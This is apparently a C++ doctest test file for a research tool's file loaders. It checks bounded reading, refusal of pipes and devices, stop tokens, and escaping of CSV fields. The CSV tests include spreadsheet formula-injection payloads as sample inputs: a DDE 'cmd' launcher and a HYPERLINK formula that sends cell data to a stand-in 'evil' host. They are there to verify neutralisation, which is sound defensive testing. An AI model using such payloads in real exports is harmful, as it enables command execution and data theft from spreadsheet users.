// Files from anywhere: every reading is bounded, never waits, can be stopped, and ends in a sentence.
#include <doctest/doctest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <csignal>
#include <filesystem>
#include <fstream>
#include <string>
#include <thread>

#include "experiment/comparison_part.h"
#include "experiment/scenario.h"
#include "expert/demonstration_file.h"
#include "expert/recording_session.h"
#include "files/csv_field.h"
#include "files/json_reading.h"
#include "files/lock_file.h"
#include "formats/mdp_file.h"
#include "formats/world_file.h"
#include "model/classroom/student_class.h"
#include "model/lessons/lesson.h"
#include "support/refusals.h"
#include "support/scratch_folder.h"
#include "support/student_files.h"
#include "support/watched_pipe.h"
#include "world/rng.h"
#include "world/stop_token.h"

using namespace awaystep;

namespace {

DomainPtr grid() { return makeDomain("gridworld", R"({"map": ["S...", ".#..", "...G"], "slip": 0.2})"); }

double secondsOf(const auto& act) {
    const auto begin = std::chrono::steady_clock::now();
    act();
    return std::chrono::duration<double>(std::chrono::steady_clock::now() - begin).count();
}

// Bytes in use now, from the system.
long residentBytes() {
    long pages = 0, resident = 0;
    std::ifstream("/proc/self/statm") >> pages >> resident;
    return resident * ::sysconf(_SC_PAGESIZE);
}

}  // namespace

TEST_CASE("reading: a pipe in the place of a file keeps nobody waiting") {
    const ScratchFolder folder;
    const WatchedPipe pipe(folder.file("pipe"));
    const std::string sentence = pipe.path() + ": this is a pipe, a file is needed";
    CHECK(refusal([&] { readTextFile(pipe.path()); }) == sentence);
    CHECK(refusal([&] { loadJson(pipe.path()); }) == sentence);
    CHECK(refusal([&] { loadDemonstrations(pipe.path()); }) == sentence);
    CHECK(refusal([&] { loadMdp(pipe.path()); }) == sentence);
    CHECK(refusal([&] { loadLesson(pipe.path()); }) == sentence);
    CHECK(refusal([&] { loadScenario(pipe.path()); }) == sentence);
    CHECK_FALSE(LockFile::isHeld(pipe.path()));
    CHECK_FALSE(SyncedLog::hasOwner(pipe.path()));
    CHECK_FALSE(pipe.keptSomebodyWaiting());
}

TEST_CASE("reading: a pipe that was named by a person is waited for, and bounded") {
    const ScratchFolder folder;
    const std::string path = folder.file("pipe");
    REQUIRE(::mkfifo(path.c_str(), 0600) == 0);
    const auto reading = [&](std::size_t size) {
        std::thread writer([&] {
            std::this_thread::sleep_for(std::chrono::milliseconds(50));
            std::ofstream(path) << std::string(size, 'x');
        });
        std::string read;
        const std::string refused =
            refusal([&] { read = readTextFile(path, {.most = 1 << 20, .pipes = Pipes::Allowed}); });
        writer.join();
        return refused.empty() ? std::to_string(read.size()) : refused;
    };
    std::signal(SIGPIPE, SIG_IGN);
    CHECK(reading(100000) == "100000");
    CHECK(reading(3 << 20) == path + ": larger than 1 MB");
}

TEST_CASE("reading: sizes are looked at before memory is touched, and what is no JSON is left after its beginning") {
    const ScratchFolder folder;
    const std::string zeros = folder.write("zeros.json", "");
    std::filesystem::resize_file(zeros, std::uintmax_t{1} << 30);  // a gigabyte that takes no room on the disk
    const long before = residentBytes();
    const double seconds = secondsOf([&] {
        CHECK(contains(refusal([&] { loadMdp(zeros); }), zeros + ": line 1, column 1: "));
        CHECK(refusal([&] { readTextFile(zeros); }) == zeros + ": larger than 256 MB");
    });
    CHECK(seconds < 1.0);
    CHECK(residentBytes() - before < 50'000'000);
    std::filesystem::resize_file(zeros, (std::uintmax_t{2} << 30) + 1);
    CHECK(refusal([&] { loadMdp(zeros); }) == zeros + ": larger than 2048 MB");
    CHECK(contains(refusal([&] { loadMdp(folder.write("list.json", "\n [1]")); }), "an object is needed"));
}

TEST_CASE("reading: a gigabyte that is neither an archive of arrays nor a model in lines is left after its beginning") {
    const ScratchFolder folder;
    for (const char* const name : {"zeros.npz", "zeros.drn"}) {
        const std::string zeros = folder.write(name, "");
        std::filesystem::resize_file(zeros, std::uintmax_t{1} << 30);
        const long before = residentBytes();
        const double seconds = secondsOf([&] { CHECK(contains(refusal([&] { loadWorld(zeros); }), zeros)); });
        CHECK(seconds < 1.0);
        CHECK(residentBytes() - before < 50'000'000);
    }
}

TEST_CASE("demonstrations: reading stops after a thousand problems and says so") {
    const DomainPtr world = grid();
    const std::string good = demonstrationLine(randomDrive(*world, 3, 1, "Ada")) + "\n";
    std::string garbage;
    while (garbage.size() < 10'000'000) garbage += "x\n";
    const long before = residentBytes();
    DemonstrationSet set;
    const double seconds = secondsOf([&] { set = parseDemonstrations(good + garbage, "xl.jsonl"); });
    CHECK(set.demonstrations.size() == 1);
    REQUIRE(set.problems.size() == mostLineProblems + 1);
    CHECK(set.problems.front().line == 2);
    CHECK(set.problems.back().sentence == "xl.jsonl, line 1002: and more: reading stopped after 1000 problems");
    CHECK(seconds < 2.0);
    CHECK(residentBytes() - before < 40'000'000);  // a copy of the text, and the sentences

    // Exactly a thousand are all told; a line that was not read can still be found.
    std::string thousand;
    for (std::size_t i = 0; i < mostLineProblems; ++i) thousand += "x\n";
    CHECK(parseDemonstrations(thousand + "\n \n", "f").problems.size() == mostLineProblems);
    const ScratchFolder folder;
    const std::string file = folder.write("f.jsonl", thousand + "x\n" + good);
    CHECK(loadDemonstrations(file).demonstrations.empty());
    CHECK(findDemonstration(file, "student-1"));
    CHECK_FALSE(findDemonstration(file, "student-2"));
    CHECK_FALSE(appendDemonstration(file, randomDrive(*world, 3, 1, "Ada")));
}

TEST_CASE("class: a file that cannot be read is named, and the class opens with the others") {
    const ScratchFolder folder;
    const DomainPtr world = grid();
    writeDemonstration(folder.file("a.jsonl"), randomDrive(*world, 5, 1, "Ada"));
    const WatchedPipe pipe(folder.file("b.jsonl"));
    std::filesystem::create_directory(folder.file("c.jsonl"));
    std::filesystem::create_symlink("/dev/zero", folder.file("d.jsonl"));
    const StudentClass all = loadStudentClass(folder.path());
    CHECK(all.students.size() == 1);
    REQUIRE(all.problems.size() == 3);
    CHECK(all.problems[0] == pipe.path() + ": this is a pipe, a file is needed");
    CHECK(contains(all.problems[1], "folder"));
    CHECK(contains(all.problems[2], "device"));
    CHECK_FALSE(pipe.keptSomebodyWaiting());
}

TEST_CASE("class: damaged lines are told of up to a thousand") {
    const ScratchFolder folder;
    writeDemonstration(folder.file("a.jsonl"), randomDrive(*grid(), 5, 1, "Ada"));
    std::string garbage;
    for (int i = 0; i < 700; ++i) garbage += "x\n";
    for (const char* name : {"b.jsonl", "c.jsonl"}) folder.write(name, garbage);
    const StudentClass all = loadStudentClass(folder.path());
    CHECK(all.problems.size() == mostClassProblems + 1);
    CHECK(contains(all.problems.back(), "and 400 more damaged lines"));
}

TEST_CASE("journals: a pipe where the demonstrations should be keeps nobody waiting") {
    const ScratchFolder folder;
    const std::string file = folder.file("world.jsonl");
    RecordingSetup setup;
    setup.id = "cut-off";
    setup.seed = 1;
    {
        RecordingSession session = RecordingSession::start(file, grid(), setup);
        session.act(0, 0.5);
    }
    const WatchedPipe pipe(file);
    const WatchedPipe journal(file + ".other.journal");
    const Recovery recovery = recoverJournals(file);
    REQUIRE(recovery.problems.size() == 1);
    CHECK(recovery.problems.front() == file + ": this is a pipe, a file is needed");
    CHECK(std::filesystem::exists(file + ".cut-off.journal"));
    CHECK_FALSE(pipe.keptSomebodyWaiting());
    CHECK_FALSE(journal.keptSomebodyWaiting());
}

TEST_CASE("stop: one large demonstration file is left within a moment") {
    // One line with as many steps as there may be.
    const DomainPtr world = grid();
    Demonstration large = randomDrive(*world, 10, 1, "Ada");
    const std::vector<RecordedStep> few = large.steps;
    while (large.steps.size() < static_cast<std::size_t>(longestDemonstration))
        large.steps.insert(large.steps.end(), few.begin(), few.end());
    for (RecordedStep& step : large.steps) step.time = 1.0;
    large.steps.resize(static_cast<std::size_t>(longestDemonstration));
    const std::string line = demonstrationLine(large);
    const double whole = secondsOf([&] { CHECK(parseDemonstrations(line, "f").demonstrations.size() == 1); });

    StopSource stop;
    std::thread later([&] {
        std::this_thread::sleep_for(std::chrono::duration<double>(0.2 * whole));
        stop.requestStop();
    });
    const double seconds = secondsOf([&] { CHECK_THROWS_AS(parseDemonstrations(line, "f", stop.token()), Stopped); });
    later.join();
    CHECK(seconds < 0.7 * whole);
}

TEST_CASE("stop: the draws of a regime that no draw is in") {
    ScenarioPlan plan;
    plan.name = "never";
    plan.domain = "highway";
    plan.parameters = R"({"features":"lanes"})";
    plan.expert.kind = ExpertKind::Optimal;
    plan.regime = RegimeKind::Outside;  // an exact target lies in K
    StopSource stop;
    std::thread later([&] {
        std::this_thread::sleep_for(std::chrono::milliseconds(300));
        stop.requestStop();
    });
    const double seconds = secondsOf([&] { CHECK_THROWS_AS(drawScenario(plan, 1, {}, stop.token()), Stopped); });
    later.join();
    CHECK(seconds < 2.0);
}

TEST_CASE("stop: a token follows its source and its source's parent") {
    CHECK_FALSE(StopToken().stopRequested());
    const StopSource parent, stranger;
    const StopSource child(parent.token());
    const StopToken early = child.token();
    CHECK_FALSE(early.stopRequested());
    early.throwIfStopped();
    stranger.requestStop();
    CHECK_FALSE(early.stopRequested());
    SUBCASE("its own") {
        child.requestStop();
        CHECK_FALSE(parent.token().stopRequested());
    }
    SUBCASE("the parent's") { parent.requestStop(); }
    CHECK(early.stopRequested());
    CHECK_THROWS_AS(child.token().throwIfStopped(), Stopped);
}

TEST_CASE("CSV: text that a spreadsheet would compute is marked, and comes back as it was") {
    CHECK(csvField("=1+1") == "'=1+1");
    CHECK(csvField("+1+cmd|' /C calc'!A0") == "'+1+cmd|' /C calc'!A0");
    CHECK(csvField("-2") == "'-2");
    CHECK(csvField("@SUM(1)") == "'@SUM(1)");
    CHECK(csvField("\t=1") == "'\t=1");
    CHECK(csvField("\r=1") == "\"'\r=1\"");
    CHECK(csvField("=HYPERLINK(\"http://evil/?\"&A1,\"click\")") ==
          "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\"");
    CHECK(csvField("'=1") == "''=1");
    for (const char* plain : {"", "Ada", "'Ada'", "a=b", "1-2", "'", "O'Neill", "7"}) CHECK(csvField(plain) == plain);

    Rng rng(3, "fields");
    const std::string letters = "'''==+-@\t\r\n\",a 1";
    for (int i = 0; i < 20000; ++i) {
        std::string text;
        for (int length = static_cast<int>(rng.uniform() * 7); length > 0; --length)
            text += letters[static_cast<std::size_t>(rng.uniform() * static_cast<double>(letters.size()))];
        const std::string field = csvField(text);
        CHECK(csvText(field) == text);
        const std::string seen = field.starts_with('"') ? field.substr(1) : field;
        const bool harmless = seen.empty() || std::string("=+-@\t\r").find(seen.front()) == std::string::npos;
        CHECK(harmless);
    }
}

TEST_CASE("CSV: the tables that hold foreign names") {
    const ScratchFolder folder;
    const DomainPtr world = grid();
    writeDemonstration(folder.file("=1+1.jsonl"), randomDrive(*world, 5, 1, "@SUM(1)"));
    const std::string table = classTable(loadStudentClass(folder.path()));
    CHECK(contains(table, "\n'@SUM(1),'=1+1.jsonl,1,5,"));

    Comparison comparison;
    RunTrace trace;
    trace.solver = "cg";
    trace.distance = trace.suboptimality = trace.gap = trace.shortfall = {-1.5};
    trace.oracleCalls = {1};
    comparison.add(trace);
    PartLabel label;
    label.scenario = "=own";
    label.seeds = 1;
    label.version = "1";
    label.question = "0123456789abcdef";
    const std::string part = partCsv(comparison, label, 1);
    CHECK(contains(part, "\n'=own,cg,0,0,-1.5,"));  // numbers stay numbers
    CHECK(parsePart(part, "part.csv").label->scenario == "=own");
}
